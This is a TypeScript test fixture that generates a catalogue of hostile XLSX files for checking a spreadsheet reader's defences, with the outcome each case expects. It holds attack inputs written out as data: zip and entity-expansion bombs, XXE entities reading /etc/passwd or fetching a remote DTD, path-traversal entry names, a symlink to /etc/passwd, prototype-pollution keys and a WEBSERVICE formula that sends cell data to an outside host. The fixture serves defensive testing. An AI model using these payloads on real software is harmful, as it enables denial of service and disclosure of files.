import { strToU8 } from 'fflate';
import { richParts } from '../embedded/xlsx/richPackage';
import { packedEntry, textEntry, zipOf, type ZipEntry } from './zipOf';

/** What the user is to read: a sentence that says so, or that the file is opened. */
export type Outcome = 'opened' | 'damaged' | 'too-large' | 'not-xlsx' | 'empty';

export interface HostileFile {
  readonly name: string;
  readonly bytes: () => Uint8Array;
  /** Any of these is sound. */
  readonly outcomes: readonly Outcome[];
  /** There are many like it. */
  readonly isOneOfMany?: boolean;
}

const MB = 1_000_000;
const plain: Readonly<Record<string, string>> = richParts;
const part = (path: string): string => plain[path] ?? '';
const sheet1 = 'xl/worksheets/sheet1.xml';
const workbookPart = 'xl/workbook.xml';
const strings = 'xl/sharedStrings.xml';
const styles = 'xl/styles.xml';
const namespace = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';

const entriesWith = (changed: Readonly<Record<string, string>>): ZipEntry[] => Object.entries({ ...plain, ...changed }).map(([name, text]) => textEntry(name, text));
const withParts = (changed: Readonly<Record<string, string>>) => () => zipOf(entriesWith(changed));
const withEntries = (...more: ZipEntry[]) => zipOf([...entriesWith({}).filter(({ name }) => !more.some((each) => each.name === name)), ...more]);
const lacking = (path: string) => () => zipOf(entriesWith({}).filter(({ name }) => name !== path));
/** The rich workbook with a text of one part replaced; a text that is not there would be a mistake of the test. */
const replaced = (path: string, from: string | RegExp, to: string) => () => {
  const text = part(path).replace(from, to);
  if (text === part(path)) throw new Error(`nothing replaced in ${path}`);
  return zipOf(entriesWith({ [path]: text }));
};
const sheetOf = (inner: string) => withParts({ [sheet1]: `<worksheet ${namespace}>${inner}</worksheet>` });
/** A first sheet of these rows, and of what a worksheet has after them. */
const rowsOf = (rows: string, after = '') => sheetOf(`<sheetData>${rows}</sheetData>${after}`);
/** A first sheet in which a piece is repeated as often as told. */
const repeated = (head: string, chunk: string, times: number, tail: string, path = sheet1) => () => withEntries(packedEntry(path, head, chunk, times, tail));
const manyCells = (cell: string, perRow: number, rows: number) => repeated(`<worksheet ${namespace}><sheetData>`, `<row>${cell.repeat(perRow)}</row>`, rows, '</sheetData></worksheet>');

const anything: readonly Outcome[] = ['opened', 'damaged', 'too-large', 'not-xlsx', 'empty'];
const refused: readonly Outcome[] = ['damaged', 'too-large', 'not-xlsx', 'empty'];

const bombs: readonly HostileFile[] = [
  { name: 'a gigabyte of blanks in the first sheet', bytes: repeated('<worksheet>', ' '.repeat(MB), 1000, '</worksheet>'), outcomes: ['too-large'] },
  { name: '250 MB of blanks in the first sheet', bytes: repeated('<worksheet>', ' '.repeat(MB), 250, '</worksheet>'), outcomes: ['too-large'] },
  { name: '100 MB of blanks in the list of texts', bytes: repeated(`<sst ${namespace}>`, ' '.repeat(MB), 100, '</sst>', strings), outcomes: ['too-large', 'opened'] },
  { name: '250 MB in a part that nobody reads', bytes: repeated('', 'x'.repeat(MB), 250, '', 'xl/media/image1.png'), outcomes: ['too-large', 'opened'] },
  { name: 'forty parts of 12 MB', bytes: () => withEntries(...Array.from({ length: 40 }, (_, at) => packedEntry(`xl/media/image${at}.png`, '', 'x'.repeat(MB), 12, ''))), outcomes: ['too-large'] },
  { name: 'a part that holds 200 MB and says it holds 10', bytes: () => withEntries({ ...packedEntry(sheet1, '', ' '.repeat(MB), 200, ''), size: 10 }), outcomes: ['damaged', 'too-large'] },
  { name: '4,000 entries on the data of one, each said to be empty', bytes: () => overlapping(4000, 0, 2 * MB, false), outcomes: refused },
  { name: '4,000 entries on the packed data of one, each said to be small', bytes: () => overlapping(4000, 1000, 2 * MB, true), outcomes: refused },
  { name: '20,000 entries', bytes: () => withEntries(...Array.from({ length: 20_000 }, (_, at) => textEntry(`x/${at}`, ''))), outcomes: ['too-large'] },
  { name: 'a zip in a zip in a zip', bytes: () => withEntries(...[nested(5)].map((stored) => ({ name: 'xl/embeddings/a.zip', stored, isPacked: false, size: stored.length }))), outcomes: ['opened', 'too-large'] },
  { name: 'a directory of the zip that points behind its end', bytes: () => broken((copy) => copy.writeUInt32LE(0x7fffffff, copy.length - 6)), outcomes: refused },
  { name: 'a directory of the zip that points to itself for every entry', bytes: () => broken((copy) => copy.writeUInt16LE(0xffff, copy.length - 12)), outcomes: anything },
  { name: 'texts that grow by entities', bytes: withParts({ [strings]: entityBomb() }), outcomes: ['damaged'] },
];

function overlapping(count: number, size: number, bytes: number, isPacked: boolean): Uint8Array {
  const base = entriesWith({});
  const data: ZipEntry = isPacked ? packedEntry('x/0', '', 'x'.repeat(MB), bytes / MB, '') : { name: 'x/0', stored: new Uint8Array(bytes), isPacked, size: bytes };
  return zipOf([...base, data, ...Array.from({ length: count }, (_, at) => ({ ...data, name: `x/${at + 1}`, size, onDataOf: base.length }))]);
}

function nested(depth: number): Uint8Array {
  if (depth === 0) return zipOf([packedEntry('bomb', '', '0'.repeat(MB), 400, '')]);
  const inner = nested(depth - 1);
  return zipOf(Array.from({ length: 3 }, (_, at) => ({ name: `${at}.zip`, stored: inner, isPacked: false, size: inner.length })));
}

function broken(change: (copy: Buffer) => void): Uint8Array {
  const copy = Buffer.from(zipOf(entriesWith({})));
  change(copy);
  return copy;
}

function entityBomb(): string {
  const levels = Array.from({ length: 12 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`);
  return part(strings).replace('<sst', `<!DOCTYPE x [<!ENTITY e0 "ha">${levels.join('')}]><sst`).replace('Tên nhiệm vụ', '&e12;');
}

const link = 0o120777;
const paths: readonly HostileFile[] = [
  ...['../../../../tmp/evil.xml', '/etc/passwd', 'C:\\Windows\\evil.xml', '\\\\may-chu\\chung\\evil.xml', 'xl/../../evil.xml', 'xl/worksheets/./../../evil.xml', 'CON', 'xl/nul', 'a\0b', '', ' ', '.', '..', '%2e%2e/evil', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'x'.repeat(60_000)].map(
    (name): HostileFile => ({ name: `an entry named ${JSON.stringify(name.slice(0, 40))}`, bytes: () => withEntries(textEntry(name, '<x/>')), outcomes: ['opened', 'damaged'], isOneOfMany: true }),
  ),
  { name: 'an entry that is a link to a file of the machine', bytes: () => withEntries({ ...textEntry(strings, '/etc/passwd'), mode: link }), outcomes: refused },
  { name: 'the list of sheets twice', bytes: () => zipOf([...entriesWith({}), textEntry(workbookPart, '<workbook/>')]), outcomes: anything },
  { name: 'the list of sheets twice, the names alike but for capitals', bytes: () => withEntries(textEntry('XL/Workbook.xml', '<workbook/>')), outcomes: ['damaged'] },
  { name: 'a folder in the place of the list of texts', bytes: () => zipOf([...entriesWith({}).filter(({ name }) => name !== strings), textEntry(`${strings}/`, '')]), outcomes: anything },
  { name: 'a sheet whose part lies outside of the package', bytes: replaced('xl/_rels/workbook.xml.rels', 'worksheets/sheet1.xml', '../../../../../etc/passwd'), outcomes: anything },
  { name: 'a sheet whose part is on another machine', bytes: replaced('xl/_rels/workbook.xml.rels', 'Target="worksheets/sheet1.xml"', 'Target="http://may-chu.vn/x.xml" TargetMode="External"'), outcomes: anything },
  { name: 'a sheet whose part is the list of sheets', bytes: replaced('xl/_rels/workbook.xml.rels', 'worksheets/sheet1.xml', 'workbook.xml'), outcomes: anything },
  { name: 'two sheets of one part', bytes: replaced('xl/_rels/workbook.xml.rels', 'worksheets/sheet2.xml', 'worksheets/sheet1.xml'), outcomes: anything },
  { name: 'relationships in a circle', bytes: () => circle(), outcomes: anything },
  { name: 'relationships that are no XML', bytes: withParts({ 'xl/_rels/workbook.xml.rels': '\0\0\0' }), outcomes: refused },
];

function circle(): Uint8Array {
  const relation = (target: string) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/drawing" Target="${target}"/></Relationships>`;
  return zipOf(entriesWith({
    [sheet1]: part(sheet1).replace('<extLst>\n<ext uri="{78C0', '<drawing r:id="rId1"/><extLst>\n<ext uri="{78C0'),
    'xl/worksheets/_rels/sheet1.xml.rels': relation('../worksheets/sheet1.xml'),
    'xl/drawings/_rels/drawing1.xml.rels': relation('drawing1.xml'),
  }));
}

const doctype = (declaration: string, use: string) => part(strings).replace('<sst', `<!DOCTYPE x [${declaration}]><sst`).replace('Tên nhiệm vụ', use);
const xml: readonly HostileFile[] = [
  { name: 'a text from a file of the machine', bytes: withParts({ [strings]: doctype('<!ENTITY f SYSTEM "file:///etc/passwd">', '&f;') }), outcomes: ['damaged'] },
  { name: 'a text from another machine', bytes: withParts({ [strings]: doctype('<!ENTITY % f SYSTEM "http://may-chu.vn/x.dtd"> %f;', 'x') }), outcomes: ['damaged', 'opened'] },
  { name: 'a declaration that uses no entity', bytes: withParts({ [strings]: doctype('<!ELEMENT x ANY>', 'x') }), outcomes: ['damaged', 'opened'] },
  { name: 'an attribute of 30 MB', bytes: repeated(`<worksheet ${namespace}><sheetPr codeName="`, 'x'.repeat(MB), 30, '"/><sheetData/></worksheet>'), outcomes: anything },
  { name: 'a million attributes', bytes: repeated(`<worksheet ${namespace} `, 'a="1" '.repeat(1000), 1000, '><sheetData/></worksheet>'), outcomes: anything },
  { name: 'elements a million deep', bytes: withParts({ [sheet1]: `<worksheet ${namespace}><sheetData>${'<a>'.repeat(MB)}${'</a>'.repeat(MB)}</sheetData></worksheet>` }), outcomes: anything },
  { name: 'a million elements that nobody closes', bytes: repeated('<x>', '<a '.repeat(1000), 3000, '', 'customXml/item1.xml'), outcomes: anything },
  { name: 'a million quotes that nobody closes', bytes: repeated('<x>', `<a b="c' d='`.repeat(1000), 1000, '"', 'customXml/item1.xml'), outcomes: anything },
  { name: 'a million comments begun', bytes: repeated('', '<!--'.repeat(1000), 1000, '', 'docProps/custom.xml'), outcomes: anything },
  { name: 'a comment and CDATA that hide the end of the sheet', bytes: rowsOf('<row r="1"><c r="A1" t="inlineStr"><is><t><![CDATA[</sheetData></worksheet>]]></t></is></c></row><!-- </sheetData> -->'), outcomes: anything },
  { name: 'a sheet in UTF-16 that says it is UTF-8', bytes: () => withEntries({ name: sheet1, stored: Buffer.from(part(sheet1), 'utf16le'), isPacked: false, size: part(sheet1).length * 2 }), outcomes: anything },
  { name: 'bytes that are no UTF-8 in a text', bytes: () => withEntries({ name: strings, stored: Buffer.from(part(strings), 'latin1'), isPacked: false, size: Buffer.byteLength(part(strings), 'latin1') }), outcomes: anything },
  { name: 'a NUL in a text', bytes: replaced(strings, 'Tên nhiệm vụ', 'Tên\0nhiệm&#0;vụ&#xFFFF;&#xD800;&#99999999;'), outcomes: anything },
  { name: 'a list of texts with three million places', bytes: repeated(`<sst ${namespace}>`, '<si/>'.repeat(1000), 3000, '</sst>', strings), outcomes: anything },
  { name: 'three million styles', bytes: repeated(`<styleSheet ${namespace}><cellXfs>`, '<xf numFmtId="0"/>'.repeat(1000), 3000, '</cellXfs></styleSheet>', styles), outcomes: anything },
  ...['[Content_Types].xml', '_rels/.rels', workbookPart, 'xl/_rels/workbook.xml.rels', strings, styles, sheet1, 'xl/worksheets/_rels/sheet1.xml.rels'].map((path): HostileFile => ({ name: `no ${path}`, bytes: lacking(path), outcomes: anything, isOneOfMany: true })),
  ...[workbookPart, strings, styles, sheet1, 'xl/worksheets/_rels/sheet1.xml.rels', 'docProps/custom.xml', 'customXml/item1.xml', '[Content_Types].xml'].flatMap((path) =>
    ['', '<', '<a', 'x', '<x/>', '{"a":1}', '\ufeff'].map((text): HostileFile => ({ name: `${path} that reads ${JSON.stringify(text)}`, bytes: withParts({ [path]: text }), outcomes: anything, isOneOfMany: true })),
  ),
];

const one = (cell: string) => rowsOf(`<row r="1">${cell}</row>`);
const whole = 'A1:XFD1048576';
const cells: readonly HostileFile[] = [
  ...['-1', '6', '99999999', '1e9', 'NaN', 'x', ''].map((index): HostileFile => ({ name: `the text at place ${index || 'nowhere'} of the list`, bytes: one(`<c r="A1" t="s"><v>${index}</v></c>`), outcomes: anything, isOneOfMany: true })),
  ...['NaN', 'Infinity', '-Infinity', '1e308', '1e309', '-0', '0x10', '1,5', ' 7 ', '９', '9'.repeat(5000)].map((value): HostileFile => ({ name: `the number ${value.slice(0, 20)}`, bytes: one(`<c r="A1"><v>${value}</v></c>`), outcomes: ['opened'], isOneOfMany: true })),
  ...['XFE1', 'ZZZZZZZ1', 'A1048577', 'A99999999999', 'A0', 'A-1', '1A', '', 'A', 'R1C1', '__proto__', '$A$1', 'a1', 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA1'].map((ref): HostileFile => ({ name: `a cell at ${ref || 'no place'}`, bytes: one(`<c r="${ref}"><v>1</v></c>`), outcomes: anything, isOneOfMany: true })),
  ...['0', '-1', '1048577', '99999999999', '1e9', '4294967296', 'x', '1.5'].map((row): HostileFile => ({ name: `a row numbered ${row}`, bytes: rowsOf(`<row r="${row}"><c r="A${row}" t="inlineStr"><is><t>x</t></is></c></row>`), outcomes: anything, isOneOfMany: true })),
  { name: 'a text in the last cell of a sheet', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), outcomes: ['opened'] },
  { name: 'a text in the last row of a sheet', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="B1048576"><v>1</v></c></row>'), outcomes: ['opened'] },
  { name: '16,385 columns', bytes: rowsOf(`<row r="1">${'<c><v>1</v></c>'.repeat(16_385)}</row>`), outcomes: anything },
  { name: 'rows and cells that run backwards', bytes: rowsOf('<row r="9"><c r="C9"><v>1</v></c><c r="A9"><v>2</v></c></row><row r="1"><c r="A1"><v>3</v></c></row><row r="9"><c r="A9"><v>4</v></c></row>'), outcomes: anything },
  { name: 'a size that is negative', bytes: sheetOf('<dimension ref="B2:A-1"/><sheetFormatPr defaultRowHeight="-15" defaultColWidth="-1"/><cols><col min="-3" max="2" width="-40"/></cols><sheetData><row r="1" ht="-9e99"><c r="A1"><v>1</v></c></row></sheetData>'), outcomes: anything },
  { name: 'a billion columns', bytes: sheetOf('<cols><col min="1" max="1000000000" width="9"/></cols><sheetData/>'), outcomes: anything },
  { name: 'a column beyond the last', bytes: sheetOf('<cols><col min="999999999" max="1000000000" width="9"/></cols><sheetData/>'), outcomes: anything },
  { name: 'columns that overlap, thousands of times', bytes: sheetOf(`<cols>${'<col min="1" max="16384" width="9"/>'.repeat(5000)}</cols><sheetData/>`), outcomes: anything },
  { name: 'a merged area of the whole sheet', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', `<mergeCells><mergeCell ref="${whole}"/></mergeCells>`), outcomes: anything },
  { name: 'merged areas of whole columns', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', '<mergeCells><mergeCell ref="A1:C1048576"/></mergeCells>'), outcomes: anything },
  { name: 'merged areas on each other', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', `<mergeCells>${'<mergeCell ref="A1:C9"/>'.repeat(2000)}</mergeCells>`), outcomes: anything },
  { name: 'a hundred thousand merged areas', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', `<mergeCells>${Array.from({ length: 100_000 }, (_, at) => `<mergeCell ref="A${at * 2 + 1}:B${at * 2 + 2}"/>`).join('')}</mergeCells>`), outcomes: anything },
  { name: 'a validation of the whole sheet', bytes: rowsOf('', `<dataValidations><dataValidation type="list" sqref="${whole}"><formula1>"a"</formula1></dataValidation></dataValidations>`), outcomes: ['opened'] },
  { name: 'a validation of whole columns', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', '<dataValidations><dataValidation type="whole" sqref="A1:Z1048576"><formula1>1</formula1></dataValidation></dataValidations>'), outcomes: ['opened'] },
  { name: 'a conditional format of the whole sheet with a hostile formula', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', `<conditionalFormatting sqref="${whole}"><cfRule type="expression" priority="1"><formula>${'('.repeat(9000)}WEBSERVICE("http://x.vn/"&amp;A1)</formula></cfRule></conditionalFormatting>`), outcomes: anything },
  { name: 'a shared formula of the whole sheet', bytes: one(`<c r="A1"><f t="shared" ref="${whole}" si="0">B1+1</f><v>1</v></c>`), outcomes: ['opened'] },
  { name: 'an array formula of the whole sheet', bytes: one(`<c r="A1"><f t="array" ref="${whole}">B1:XFD1048576*2</f><v>1</v></c>`), outcomes: anything },
  { name: 'shared formulas that share in a circle', bytes: one('<c r="A1"><f t="shared" si="1"/><v>1</v></c><c r="B1"><f t="shared" si="0"/><v>1</v></c>'), outcomes: anything },
  { name: 'formulas that refer to each other in a circle', bytes: one('<c r="A1"><f>B1</f></c><c r="B1"><f>A1</f></c>'), outcomes: ['opened'] },
  { name: 'a formula of a hundred thousand brackets', bytes: one(`<c r="A1"><f>${'('.repeat(100_000)}1${')'.repeat(100_000)}</f></c>`), outcomes: anything },
  { name: 'links on the whole sheet', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', `<hyperlinks><hyperlink ref="${whole}" location="x"/></hyperlinks>`), outcomes: anything },
  { name: 'a filter and a print area beyond the sheet', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', '<autoFilter ref="A1:ZZZZ99999999"/>'), outcomes: anything },
  { name: 'page breaks without end', bytes: rowsOf('<row r="1"><c r="A1"><v>1</v></c></row>', `<rowBreaks>${'<brk id="99999999999" max="-1" man="1"/>'.repeat(20_000)}</rowBreaks>`), outcomes: anything },
  { name: 'a million blank formatted rows', bytes: manyRows(1_048_576), outcomes: ['opened', 'too-large'] },
  { name: 'a million blank formatted rows, their elements with a prefix', bytes: repeated('<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>', '<x:row s="1"/>'.repeat(1000), 1049, '</x:sheetData></x:worksheet>'), outcomes: ['opened', 'too-large', 'damaged'] },
  { name: 'four million formatted cells', bytes: manyCells('<c s="1"/>', 100, 40_000), outcomes: ['too-large'] },
  { name: 'four million formatted cells, each on a line of its own', bytes: manyCells('<c\ns="1"/>', 100, 40_000), outcomes: ['too-large'] },
  { name: 'four million formatted cells in a part with a name of its own', bytes: () => elsewhere('<c s="1"/>', 100, 40_000), outcomes: ['too-large'] },
  { name: 'as many cells as are let through', bytes: manyCells('<c><v>1</v></c>', 10, 29_000), outcomes: ['opened', 'too-large'] },
  { name: 'as many rows as are let through', bytes: manyRows(100_000), outcomes: ['opened', 'too-large'] },
  { name: 'a text of 3 MB in a cell', bytes: one(`<c r="A1" t="inlineStr"><is><t>${'ế'.repeat(MB)}</t></is></c>`), outcomes: anything },
  { name: 'a text of a hundred thousand runs', bytes: withParts({ [strings]: part(strings).replace('<si><t>TT</t></si>', `<si>${'<r><rPr><b/></rPr><t>a</t></r>'.repeat(100_000)}</si>`) }), outcomes: anything },
];

function manyRows(count: number): () => Uint8Array {
  return repeated(`<worksheet ${namespace}><sheetData><row r="1"><c r="A1"><v>1</v></c></row>`, '<row s="1" customFormat="1"/>'.repeat(1000), Math.ceil(count / 1000), '</sheetData></worksheet>');
}

function elsewhere(cell: string, perRow: number, rows: number): Uint8Array {
  const path = 'xl/trang/mot.xml';
  const links = part('xl/_rels/workbook.xml.rels').replace('worksheets/sheet1.xml', 'trang/mot.xml');
  const types = part('[Content_Types].xml').replace('/xl/worksheets/sheet1.xml', `/${path}`);
  const big = packedEntry(path, `<worksheet ${namespace}><sheetData>`, `<row>${cell.repeat(perRow)}</row>`, rows, '</sheetData></worksheet>');
  return zipOf([...entriesWith({ 'xl/_rels/workbook.xml.rels': links, '[Content_Types].xml': types }).filter(({ name }) => name !== sheet1), big]);
}

const sheetNames = ["'", "O'Neil''s", 'a[b]c', 'x'.repeat(300), 'History', '__proto__', 'constructor', 'toString', '', ' ', '../x', '📊🇻🇳', '\u202egnid', '\u0640\u0645\u0631\u062d\u0628\u0627', 'Ph\u1ee5 l\u1ee5c', 'Phu\u0323 lu\u0323c', '\u0420L I', 'A1', 'R1C1', '1e5', '=1+1', '<b>x</b>', 'a&#10;b', '\u200b', 'Báo cáo tổng hợp', 'Lịch sử theo dõi', 'Danh mục cơ quan', 'Kết quả kiểm tra'];
const escaped = (text: string): string => text.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const named = (name: string, formula: string) => replaced(workbookPart, '</definedNames>', `<definedName name="${name}">${formula}</definedName></definedNames>`);
const names: readonly HostileFile[] = [
  ...sheetNames.map((name): HostileFile => ({ name: `a sheet named ${JSON.stringify(name.slice(0, 40))}`, bytes: () => zipOf(entriesWith({ [workbookPart]: part(workbookPart).replaceAll('Phụ lục II', escaped(name)) })), outcomes: anything, isOneOfMany: true })),
  { name: 'two sheets of one name', bytes: replaced(workbookPart, 'name="Ẩn"', 'name="Phụ lục II"'), outcomes: anything },
  { name: 'two sheets of one number', bytes: replaced(workbookPart, 'sheetId="7"', 'sheetId="3"'), outcomes: anything },
  { name: 'a sheet numbered beyond all numbers', bytes: replaced(workbookPart, 'sheetId="7"', 'sheetId="99999999999999"'), outcomes: anything },
  { name: 'ten thousand sheets of one part', bytes: replaced(workbookPart, '</sheets>', `${Array.from({ length: 10_000 }, (_, at) => `<sheet name="s${at}" sheetId="${at + 10}" r:id="rId2"/>`).join('')}</sheets>`), outcomes: anything },
  { name: 'a name for the whole sheet', bytes: named('Tat_ca', `'Phụ lục II'!$${whole.replace('1:', '$1:$').replace('XFD', 'XFD$')}`), outcomes: anything },
  { name: 'a name for whole columns', bytes: named('Cot', "'Phụ lục II'!$A:$XFD"), outcomes: anything },
  { name: 'a name for whole rows', bytes: named('Dong', "'Phụ lục II'!$1:$1048576"), outcomes: anything },
  { name: 'a name that is a million characters long', bytes: named('x'.repeat(MB), '1'), outcomes: anything },
  { name: 'a name with a hostile formula', bytes: named('__proto__', `${'INDIRECT('.repeat(5000)}"A1"`), outcomes: anything },
  { name: 'a hundred thousand names', bytes: replaced(workbookPart, '</definedNames>', `${Array.from({ length: 100_000 }, (_, at) => `<definedName name="n${at}">'Phụ lục II'!$A$1</definedName>`).join('')}</definedNames>`), outcomes: anything },
  { name: 'a window on a sheet that there is not', bytes: replaced(workbookPart, 'activeTab="0"', 'activeTab="-99999"'), outcomes: ['opened'] },
  { name: 'properties without end', bytes: withParts({ 'docProps/custom.xml': `<Properties>${'<property name="__proto__"><vt:lpwstr>&lt;script&gt;</vt:lpwstr></property>'.repeat(50_000)}</Properties>` }), outcomes: ['opened'] },
  { name: 'settings of ours that are no settings', bytes: () => settings('<setting name="tro-ly-phu-luc">"{\\"version\\":1,\\"reports\\":{\\"__proto__\\":[1]},\\"settings\\":[],\\"drafts\\":\\"Phụ lục II\\"}"</setting><setting name="__proto__">{"a":1}</setting>'), outcomes: ['opened'] },
  { name: 'settings of ours that call every sheet a draft', bytes: () => settings(`<setting name="tro-ly-phu-luc">${JSON.stringify(JSON.stringify({ version: 1, drafts: ['Phụ lục II', 'Ẩn'] })).replaceAll('"', '&quot;')}</setting>`), outcomes: ['opened'] },
  { name: 'settings of 10 MB', bytes: () => settings(`<setting name="tro-ly-phu-luc">"${'x'.repeat(10 * MB)}"</setting>`), outcomes: anything },
  { name: 'settings nested a hundred thousand deep', bytes: () => settings(`<setting name="tro-ly-phu-luc">${JSON.stringify('['.repeat(100_000) + ']'.repeat(100_000))}</setting><setting name="x">${'['.repeat(100_000)}</setting>`), outcomes: ['opened'] },
];

function settings(inner: string): Uint8Array {
  return zipOf(entriesWith({ 'customXml/item1.xml': `<settings xmlns="urn:tro-ly-phu-luc:document-settings:1">${inner}</settings>` }));
}

const others: readonly HostileFile[] = [
  { name: 'bytes that only begin as a zip', bytes: () => strToU8(`PK\x03\x04${'x'.repeat(MB)}`), outcomes: ['damaged'] },
  { name: '60 MB of the letter E in an old container', bytes: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(60 * MB, 'E')]), outcomes: anything },
];

export const hostileFiles: readonly HostileFile[] = [...bombs, ...paths, ...xml, ...cells, ...names, ...others];
